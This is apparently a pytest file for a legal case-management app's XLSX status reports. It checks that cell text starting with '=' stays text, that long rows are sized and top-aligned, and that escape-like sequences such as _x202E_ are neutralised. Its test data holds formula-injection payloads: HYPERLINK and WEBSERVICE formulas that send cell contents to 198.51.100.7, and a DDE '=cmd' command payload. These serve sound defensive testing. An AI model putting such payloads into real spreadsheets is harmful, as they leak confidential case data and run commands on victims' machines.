"""The cells of a status report's XLSX. Texts beginning "=" stay text: openpyxl writes such
a text as a formula, which the spreadsheet program runs when the lawyer opens the report, and a name
taken from someone else's list or export (``=HYPERLINK("http://…"&B3, "…")``,
``=WEBSERVICE(…)``) would send the report's facts to whoever wrote it. Every cell of every
sheet is checked, and the texts come out as written."""

from __future__ import annotations

import io

import openpyxl

from caseapp.services import outputs
from caseapp.services.casefile import CaseFile

NAME = '=HYPERLINK("http://198.51.100.7/?"&D2&E2,"Արամ")'
LATIN = "=WEBSERVICE(\"http://198.51.100.7/?\"&C2)"
PLACE = "=1+1 detention centre"
COURT = "=cmd|' /C calc'!A0"
TAG = "=tag"


def test_no_text_of_the_case_file_becomes_a_formula(case_file: CaseFile) -> None:
    cid = case_file.captives.create(
        names=[dict(full_name=NAME, script="Armn", is_primary=True),
               dict(full_name=LATIN, script="Latn", kind="transliteration")],
        sensitivity="shareable", status="pre_trial", tags=[TAG]).id
    case_file.detention_places.create(captive_id=cid, facility=PLACE, from_date="2025-01-10",
                                      sensitivity="shareable")
    case_file.hearings.create(captive_ids=[cid], starts_at="2026-12-02T10:00",
                              timezone="Asia/Baku", court=COURT, sensitivity="shareable")
    made = outputs.status_report(case_file, level="internal", author="A", fmt="xlsx", tag=TAG)
    book = openpyxl.load_workbook(io.BytesIO(made.data))
    formulas, texts = [], set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert not formulas
    assert {NAME, LATIN, PLACE, COURT} <= texts
    assert any(TAG in text for text in texts)  # the summary's scope names the tag


def test_a_row_with_a_long_text_is_as_tall_as_its_lines_and_others_keep_one_line(
        case_file: CaseFile) -> None:
    # A spreadsheet does not size a written row itself: a wrapped text in a row left one
    # line high shows its first line only.
    long_place = " ".join(["Baku pre-trial detention centre No. 1, wing"] * 3)  # 131 chars
    longer_place = " ".join(["Baku pre-trial detention centre No. 1, wing"] * 6)
    for name, place in (("Aram Short", "Kurdakhany"), ("Babken Long", long_place),
                        ("Davit Longer", longer_place), ("Gor Long", long_place)):
        cid = case_file.captives.create(names=[name], sensitivity="shareable",
                                        status="pre_trial").id
        case_file.detention_places.create(captive_id=cid, facility=place,
                                          from_date="2025-01-10", sensitivity="shareable")
    made = outputs.status_report(case_file, level="shareable", author="A", fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(made.data)).worksheets[0]
    heights = {}
    for row in sheet.iter_rows(min_row=2):
        latin = row[1].value
        heights[latin] = sheet.row_dimensions[row[0].row].height
        assert bool(row[5].alignment.wrap_text) is (latin != "Aram Short")
    one = 15
    assert heights["Aram Short"] in (None, one)
    assert heights["Babken Long"] == heights["Gor Long"] >= 2 * one
    assert heights["Davit Longer"] >= heights["Babken Long"] + 2 * one


def test_every_cell_of_a_tall_row_starts_at_its_top(case_file: CaseFile) -> None:
    """Printed without grid lines, a tall row's cells stood at its foot: the first lines of a
    long name sat right under the row before, read as its continuation, and the captive's
    number and status stood beside the name's last line only."""
    long_name = " ".join(["Աբգար-Մելիքսեթ Тер-Оганесян Əliyev"] * 5)
    cid = case_file.captives.create(names=[dict(full_name=long_name, is_primary=True)],
                                    sensitivity="shareable", status="pre_trial").id
    case_file.welfare_contacts.create(captive_id=cid, contact_on="2026-10-01",
                                      kind="icrc_visit", sensitivity="shareable")
    case_file.captives.create(names=["Aram Short"], sensitivity="shareable", status="held")
    made = outputs.status_report(case_file, level="shareable", author="A", fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(made.data)).worksheets[0]
    tall = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == cid)
    assert sheet.row_dimensions[tall[0].row].height > 15
    filled = [c for c in tall if c.value is not None]
    assert len(filled) >= 5  # the number, the names, the status, the days, the last contact
    assert [c.coordinate for c in filled if c.alignment.vertical != "top"] == []
    assert next(c for c in tall if c.column_letter == "L").is_date  # a date still



def test_a_tall_rows_plain_cells_take_a_top_aligned_format_in_every_program(
        case_file: CaseFile) -> None:
    """A plain cell (no format of its own) is written with the workbook's first format, which
    Excel reads, made from the "Normal" style, which LibreOffice reads, and LibreOffice
    lets a row's or a column's own format take its place: each of them must start the cell at
    the top (a row or a column written with openpyxl's empty format put the number, the
    status and the category at a tall row's foot in LibreOffice)."""
    import re
    import zipfile

    long_name = " ".join(["Աբգար-Մելիքսեթ Тер-Оганесян Əliyev"] * 5)
    case_file.captives.create(names=[dict(full_name=long_name, is_primary=True)],
                              sensitivity="shareable", status="pre_trial")
    made = outputs.status_report(case_file, level="shareable", author="A", fmt="xlsx")
    with zipfile.ZipFile(io.BytesIO(made.data)) as z:
        styles = z.read("xl/styles.xml").decode()
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]

    def formats(kind: str) -> list[str]:
        block = re.search(rf"<{kind}[^>]*>(.*?)</{kind}>", styles, re.S)
        assert block is not None
        return re.findall(r"<xf\b.*?(?:/>|</xf>)", block.group(1), re.S)

    def top(xf: str) -> bool:
        return re.search(r'<alignment[^>]*vertical="top"', xf) is not None

    assert top(formats("cellXfs")[0]) and top(formats("cellStyleXfs")[0])
    used = {int(n) for sheet in sheets
            for n in re.findall(r'<(?:row|col)\b[^>]*\b(?:s|style)="(\d+)"', sheet)}
    assert [n for n in used if not top(formats("cellXfs")[n])] == []

def test_text_like_a_spreadsheet_escape_shows_as_typed(case_file: CaseFile) -> None:
    """``_x202E_`` in a cell's text is, to Excel, the right-to-left override (and
    ``_x000D_`` a carriage return, ``_x0000_`` a NUL, to LibreOffice too): a name typed or
    imported so, which CaseApp's cleaning keeps since it is plain letters, would show reversed
    or broken in the report. It is written with the spreadsheet's escape of its underscore."""
    from tests.sheets.test_sheet_export import ESCAPE_LOOKALIKES, shown_by_a_spreadsheet

    name, place, court = ESCAPE_LOOKALIKES
    long_place = place + " " + "very long name of the place " * 4  # a wrapped cell
    cid = case_file.captives.create(names=[name], status="pre_trial", tags=[court],
                                    sensitivity="shareable").id
    case_file.detention_places.create(captive_id=cid, facility=long_place[:300],
                                      from_date="2025-01-10", sensitivity="shareable")
    case_file.hearings.create(captive_ids=[cid], starts_at="2026-12-02T10:00",
                              timezone="Asia/Baku", court=court, sensitivity="shareable")
    made = outputs.status_report(case_file, level="internal", author="A", fmt="xlsx", tag=court)
    shown = shown_by_a_spreadsheet(made.data)
    assert not [t for t in shown if set(t) & {"\u202e", "\r", "\x00"}]
    assert {name, long_place[:300].strip(), court} <= set(shown)
    assert any(court in text for text in shown if text != court)  # the summary's scope
